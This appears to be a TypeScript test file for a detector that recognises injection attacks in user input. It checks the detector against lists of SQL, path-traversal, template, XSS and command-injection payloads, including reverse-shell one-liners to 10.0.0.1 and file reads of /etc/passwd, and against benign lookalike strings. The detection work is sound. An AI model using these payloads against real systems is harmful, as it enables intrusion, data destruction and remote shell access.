import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { whySlow } from './pattern/judge.ts'
import { blockShapes, recognise, SHAPES, type ShapeKind } from './recognise.ts'

const ATTACKS: Readonly<Record<ShapeKind, readonly string[]>> = {
  sql: [
    "' or 1=1--",
    "' OR '1'='1",
    '") and ("a"="a',
    "admin'--",
    '1 or 1=1',
    '-1 union select null,null--',
    "x' UNION ALL SELECT password FROM users--",
    "1'/**/union/**/select/**/1",
    "'; drop table users--",
    '1; delete from users --',
    "' and pg_sleep(5)--",
    "1' and (select 1 from (sleep(5))x)--",
    "'; waitfor delay '0:0:5'--",
    "' and extractvalue(1, concat(0x7e, version()))--",
    "'; exec master..xp_cmdshell 'dir'--",
    "' || pg_sleep(3) || '",
  ],
  path: [
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '%2e%2e%2f%2e%2e%2fetc',
    '..%2f..%2f',
    '..%c0%af..',
    '....//....//etc/passwd',
    'php://filter/convert.base64-encode/resource=index',
    'file:///etc/passwd',
    '/a/..;/manager',
  ],
  template: [
    '{{7*7}}',
    '${7*7}',
    '<%= 7 * 7 %>',
    '#{7*7}',
    "{{'7'*7}}",
    '${jndi:ldap://x/a}',
    "{{''.__class__.__mro__}}",
    '${T(java.lang.Runtime).getRuntime()}',
    '{{constructor.constructor("x")()}}',
  ],
  xss: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '<svg/onload=confirm`1`>',
    '<iframe src="javascript:alert(\'x\')">',
    '<a href="javascript:document.cookie">x</a>',
    "' onfocus=alert(1) autofocus",
    '"/><svg ',
  ],
  command: [
    '; cat /etc/passwd',
    '| whoami',
    '$(id)',
    '`id`',
    '&& uname -a',
    '; ping -c 3 127.0.0.1',
    '| sleep 5',
    '; nc -e /bin/sh 10.0.0.1 4444',
    '; bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
    '() { :; }; echo',
  ],
}

test.each(Object.entries(ATTACKS))('%s is recognised', (kind, texts) => {
  for (const text of texts)
    expect({ text, kinds: recognise(text) }).toMatchObject({
      kinds: expect.arrayContaining([kind]),
    })
})

const ORDINARY = [
  ...[
    "O'Brien",
    "D'Arcy & Sons",
    'Müller-Lüdenscheid',
    'Smith; Jones',
    'AT&T',
    'N/A',
    '--',
    '5 or 6',
    '!@#',
  ],
  ...[
    '1 or 2 = unclear',
    "rock 'n' roll or 1980s pop",
    'Union Select Committee',
    'select a union rep; drop in',
  ],
  ...[
    "It's either 'yes' or 'no', and that's it.",
    'Use "and" or "or".',
    'He said "or else" = a threat',
  ],
  ...[
    'select * from orders where id = 1 or state = 2',
    "insert into t values ('a'); delete from u;",
  ],
  ...[
    "update a set b = 'x' where c in (1, 2) and d = 'e'",
    "select 'a' union all select 'b'",
    'drop table users;',
  ],
  ...[
    '-- a comment\nselect 1;',
    "where name = 'x' or name = 'y'",
    'select pg_sleep(1)',
    "a' || b || 'c",
  ],
  ...[
    "import { a } from '../../base/index.ts'",
    'cd ../.. && npm test',
    '/etc/passwd is a file',
    '..',
  ],
  ...[
    '${name} and {{ user.name }}',
    '{% if a %}',
    'a {{ config.title }} b',
    '`${a * b}`',
    '{{ 7 }}',
  ],
  ...[
    '<b>bold</b>',
    '<script src="/a.js"></script>',
    '<p onclick="go()">',
    'a < b > c',
    'alert("x")',
  ],
  ...[
    'ls; make | tee log',
    'echo `date`',
    'curl https://x | sh',
    'time.sleep(5)',
    'sleep 5',
    'id; name',
    'user id',
  ],
  ...[
    '50% off; 3 for 2',
    '100%',
    'C:\\Users\\x',
    'https://example.org/a?b=c&d=e#f',
    'x=1;y=2',
    '(a) or (b)',
  ],
]

test.each(ORDINARY)('%s is ordinary', text => {
  expect(recognise(text)).toEqual([])
})

test('source and prose of this repository look like no attack, line by line', () => {
  const root = join(import.meta.dirname, '../../..')
  const files = [
    ...filesIn(join(root, 'src/query')),
    ...filesIn(join(root, 'src/capabilities/pool')),
    ...filesIn(join(root, '../docs')),
  ]
  const lines = files.flatMap(file => readFileSync(file, 'utf8').split('\n'))
  const told = lines.filter(line => recognise(line).length > 0)
  expect(lines.length).toBeGreaterThan(10_000)
  expect(told.length / lines.length).toBeLessThan(0.000_5)
})

function filesIn(folder: string): string[] {
  const names = readdirSync(folder, { recursive: true, encoding: 'utf8' })
  return names.filter(name => /\.(?:ts|md)$/.test(name)).map(name => join(folder, name))
}

test.each(SHAPES.flatMap(({ patterns }) => patterns))('%s takes linear time', pattern => {
  expect(whySlow(pattern.source)).toBeUndefined()
})

test('only what is asked for is blocked', () => {
  expect(() => blockShapes("' or 1=1--", ['xss'])).not.toThrow()
  expect(() => blockShapes("' or 1=1--", ['xss', 'sql'], '/name')).toThrow(
    expect.objectContaining({
      code: 'ST422',
      faults: [expect.objectContaining({ pointer: '/name', rule: 'sql' })],
    }),
  )
})
